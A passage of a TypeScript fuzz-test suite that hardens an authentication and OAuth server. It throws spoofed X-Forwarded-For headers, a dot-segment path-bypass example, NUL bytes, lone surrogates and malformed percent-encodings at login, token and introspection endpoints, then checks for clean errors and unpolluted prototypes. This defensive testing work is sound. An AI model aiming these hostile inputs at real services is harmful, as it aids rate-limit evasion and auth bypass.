        if (method === 'HEAD') return commonViolation(response)
        // The router sees the path after dot-segment normalisation (/auth/%2e%2e/oauth/token is /oauth/token).
        const routed = routedPath(url)
        const matchedOAuth = method === 'POST' && /^\/oauth\/(?:token|revoke|introspect)$/.test(routed)
        return matchedOAuth ? oauthViolation(response) : problemViolation(response)
      }, (response) => response.statusCode === 201)
    })

  // Behind a trusted proxy the client address comes from X-Forwarded-For and keys the rate limits.
  const proxied = await buildTestApp(t, {
    TRUST_PROXY: 'true',
    RATE_LIMIT_ENABLED: true,
    RATE_LIMIT_LOGIN_MAX: 100_000,
    RATE_LIMIT_REGISTER_MAX: 100_000,
    RATE_LIMIT_REFRESH_MAX: 100_000,
    RATE_LIMIT_TOKEN_MAX: 100_000
  }, { database })
  const forwardedFor = fc.oneof(
    fc.ipV4(), fc.ipV6(), fc.ipV4Extended(),
    fc.ipV6().map((ip) => `${ip}%eth0`),
    fc.ipV4().map((ip) => `::ffff:${ip}`),
    fc.array(fc.oneof(fc.ipV4(), fc.ipV6(), headerText), { minLength: 1, maxLength: 4 }).map((hops) => hops.join(', ')),
    fc.constantFrom('', ',', 'unknown', '::', '::1', '[::1]:443', '1.2.3.4:80', 'fe80::1%25eth0', '1:2:3:4:5:6:7:8:9',
      ':::::', '999.999.999.999', '0x7f.1', '2130706433'),
    headerText
  )
  await property(t,
    'TRUST_PROXY=true with rate limits on: hostile X-Forwarded-For values → never 5xx, problem+json / RFC 6749 errors',
    fc.record({
      path: fc.constantFrom('/auth/login', '/auth/register', '/auth/refresh', '/oauth/token'),
      forwarded: forwardedFor,
      body: plausibleAuthBody
    }),
    async ({ path, forwarded, body }) => {
      const sent: Body = path === '/oauth/token'
        ? { kind: 'form', text: 'grant_type=client_credentials&client_id=x&client_secret=y' }
        : body
      const options = injectOptions('POST', path, sent, { 'x-forwarded-for': forwarded })
      const response = await proxied.inject(options)
      const violation = path === '/oauth/token' ? oauthViolation(response) : problemViolation(response)
      return violation === undefined ? undefined : `${violation}\n  request: ${describeRequest(options)}`
    })

  // Deterministic regressions for what the properties above turned up, so each cause has a name.
  t.test('regressions found by fuzzing', async (t) => {
    const cases: Array<[string, InjectOptions, (response: LightMyRequestResponse) => string | undefined]> = [
      [
        'login with a NUL byte in the email',
        injectOptions('POST', '/auth/login', {
          kind: 'json', text: JSON.stringify({ email: 'a\u0000b@example.com', password: 'whatever password' })
        }),
        problemViolation
      ],
      [
        'register with a NUL byte in the email',
        injectOptions('POST', '/auth/register', {
          kind: 'json', text: JSON.stringify({ email: 'a\u0000b@example.com', password: 'a perfectly fine password' })
        }),
        problemViolation
      ],
      [
        'client_credentials with a NUL byte in client_id (body)',
        injectOptions('POST', '/oauth/token', {
          kind: 'form', text: 'grant_type=client_credentials&client_id=a%00b&client_secret=x'
        }),
        oauthViolation
      ],
      [
        'login with a lone surrogate ending an email with non-ASCII characters (PGlite)',
        injectOptions('POST', '/auth/login', {
          kind: 'json', text: JSON.stringify({ email: 'a@ｅｘａｍｐｌｅ.ｃｏｍ\udfff', password: 'whatever password' })
        }),
        problemViolation
      ],
      [
        'client_credentials with a lone surrogate ending a non-ASCII client_id (PGlite)',
        injectOptions('POST', '/oauth/token', {
          kind: 'json',
          text: JSON.stringify({ grant_type: 'client_credentials', client_id: 'ａ\udfff', client_secret: 'x' })
        }),
        oauthViolation
      ],
      [
        'introspect with a NUL byte in the Basic client id',
        {
          method: 'POST',
          url: '/oauth/introspect',
          payload: 'token=x',
          headers: {
            'content-type': 'application/x-www-form-urlencoded',
            authorization: `Basic ${Buffer.from('a\u0000b:secret').toString('base64')}`
          }
        },
        oauthViolation
      ],
      [
        'a malformed percent-encoding in the path (FST_ERR_BAD_URL)',
        { method: 'DELETE', url: '/auth/sessions/%E0%A4%A', headers: { authorization: victimBearer } },
        problemViolation
      ],
      ['a malformed percent-encoding in an unknown path', { method: 'GET', url: '/%ZZ' }, problemViolation]
    ]
    for (const [name, options, check] of cases) {
      const violation = await probe(options, check)
      t.equal(violation, undefined, name)
    }
  })

  t.test('the fuzzing revoked, spent or changed nothing of the fixtures', async (t) => {
    const me = await app.inject({ method: 'GET', url: '/auth/me', headers: { authorization: victimBearer } })
    t.equal(me.statusCode, 200, 'the victim\'s access token still works')
    const sessions = await db.selectFrom('sessions').select(['id', 'revoked_at'])
      .where('id', 'in', [victimLogin.sessionId, bystanderLogin.sessionId]).execute()
    t.same(sessions.map((session) => session.revoked_at), [null, null], 'both sessions are live')
    const introspection = await app.inject({
      method: 'POST',
      url: '/oauth/introspect',
      payload: `token=${String(bystanderLogin.refreshToken)}`,
      headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: clientBasic }
    })
    t.equal(introspection.json().active, true, 'the bystander\'s refresh token is still unspent')
    const after = await snapshot(db)
    t.comment(`after fuzzing: ${after.counts}`)
    const clients = await db.selectFrom('oauth_clients').select('client_id').execute()
    t.equal(clients.length, 1, 'no client was created')
  })

  t.test('Object.prototype, Array.prototype and Function.prototype are not polluted', async (t) => {
    const probeObject: Record<string, unknown> = {}
    for (const key of ['admin', 'isAdmin', 'polluted', 'role', 'prototype', 'a', 'email', 'token']) {
      t.equal(probeObject[key], undefined, `({}).${key} is undefined`)
    }
    t.same(
      Object.getOwnPropertyNames(Object.prototype).sort(),
      prototypesBefore.object,
      'Object.prototype has the same own properties'
    )
    t.same(
      Object.getOwnPropertyNames(Array.prototype).sort(),
      prototypesBefore.array,
      'Array.prototype has the same own properties'
    )
    t.same(
      Object.getOwnPropertyNames(Function.prototype).sort(),
      prototypesBefore.func,
      'Function.prototype has the same own properties'
    )
    t.equal(typeof Object.prototype.toString, 'function', 'toString is intact')
    t.equal(({}).constructor, Object, 'constructor is intact')
  })
})
